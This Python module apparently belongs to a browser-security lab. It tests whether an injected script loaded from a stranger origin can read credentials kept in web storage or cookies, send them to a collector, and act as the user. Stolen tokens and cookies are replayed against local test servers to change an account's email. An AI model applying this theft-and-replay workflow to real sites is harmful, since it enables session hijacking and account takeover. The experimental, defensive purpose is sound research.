"""An injected script in the client's page: what it can steal, and what it can do as the user."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Final, Literal

from browserlab import sites
from browserlab.pages import Store
from browserlab.proxy import COLLECT
from browserlab.session import BrowserSession, open_session
from browserlab.unprotected import AS_IT_COMES, Weakened
from servers import contract

TITLE: Final = "a script injected into the client: can it steal the credential, can it act"
SCHEMES: Final = ("cookie", "token", "token-cookie")
OPTIONS: Final = ()

Kept = Literal[
    "localStorage",
    "sessionStorage",
    "memory",
    "HttpOnly cookie (session)",
    "HttpOnly cookie (JWT)",
    "readable cookie (session)",
]
#: Places for a credential: the scheme, the client's store, and the removed protections of the API.
_PLACES: Final[Mapping[Kept, tuple[str, Store, Weakened]]] = {
    "localStorage": ("token", "local", AS_IT_COMES),
    "sessionStorage": ("token", "session", AS_IT_COMES),
    "memory": ("token", "memory", AS_IT_COMES),
    "HttpOnly cookie (session)": ("cookie", "", AS_IT_COMES),
    "HttpOnly cookie (JWT)": ("token-cookie", "", AS_IT_COMES),
    "readable cookie (session)": ("cookie", "", Weakened(http_only=False)),
}
_SCRIPT: Final = f"{sites.origin(sites.STRANGER)}/steal.js"
_COLLECTOR: Final = f"{sites.origin(sites.STRANGER)}{COLLECT}"
_STRIKE: Final = """async ([api, collector, email]) => {
  if (!globalThis.injected) return false;
  await injected.strike(api, collector, email);
  return true;
}"""


@dataclass(frozen=True)
class InjectionRow:
    """Result of an injected script.

    Attributes:
        kept: Place of the credential.
        policy: Whether the page had its Content-Security-Policy.
        ran: Whether the browser ran the script.
        acted: Whether the script changed the user's account while the page was open.
        in_reach: Whether the credential was readable in web storage or `document.cookie`.
        stolen: Whether the stolen data changed the account from elsewhere, with the page closed.
    """

    kept: Kept
    policy: bool
    ran: bool
    acted: bool
    in_reach: bool
    stolen: bool


async def run(servers: Mapping[str, int]) -> tuple[str, Sequence[InjectionRow]]:
    """Run the experiment; return the browser's version, and a row per place, with and without the policy."""
    async with open_session(servers) as session:
        return session.browser.version, [
            await _run_case(session, kept, policy=policy) for kept in _PLACES for policy in (True, False)
        ]


async def _run_case(session: BrowserSession, kept: Kept, *, policy: bool) -> InjectionRow:
    scheme, store, weakened = _PLACES[kept]
    collected = session.configure(scheme, store=store, weakened=weakened, script=_SCRIPT, policy=policy)
    marked = f"{kept.split()[0].lower()}-{policy}@{sites.STRANGER}".lower()
    async with session.visitor() as visitor:
        await visitor.enter(sites.OWN, "the user of the page could not log in.")
        await visitor.press("#call")
        ran = bool(
            await visitor.page.evaluate(_STRIKE, [sites.origin(sites.OWN), _COLLECTOR, f"acted-{marked}"])
        )
        acted = await session.email(scheme) == f"acted-{marked}"
    loot: dict[str, Any] = json.loads(collected[0]) if collected else {}
    for headers in _replays(loot):
        await _write(session, scheme, headers, f"stolen-{marked}")
    return InjectionRow(
        kept,
        policy,
        ran=ran,
        acted=acted,
        in_reach=bool(loot.get("storage") or loot.get("cookies")),
        stolen=await session.email(scheme) == f"stolen-{marked}",
    )


def _replays(loot: Mapping[str, Any]) -> Iterator[dict[str, str]]:
    """Yield the headers of all replays of the stolen data; a CSRF token alone is not a credential."""
    proof = {contract.CSRF_HEADER: loot["proof"]} if loot.get("proof") else {}
    tokens = [json.loads(text)["token"] for text in loot.get("storage", [])] + loot.get("overheard", [])
    yield from ({"Authorization": f"Bearer {token}"} for token in dict.fromkeys(tokens))
    if loot:
        yield proof | ({"Cookie": loot["cookies"]} if loot["cookies"] else {})


async def _write(session: BrowserSession, scheme: str, headers: Mapping[str, str], email: str) -> None:
    """Write without a browser, with nothing but the stolen data."""
    url = f"http://127.0.0.1:{session.servers[scheme]}{contract.EMAIL}"
    async with session.client.post(url, json={"email": email}, headers=headers):
        pass
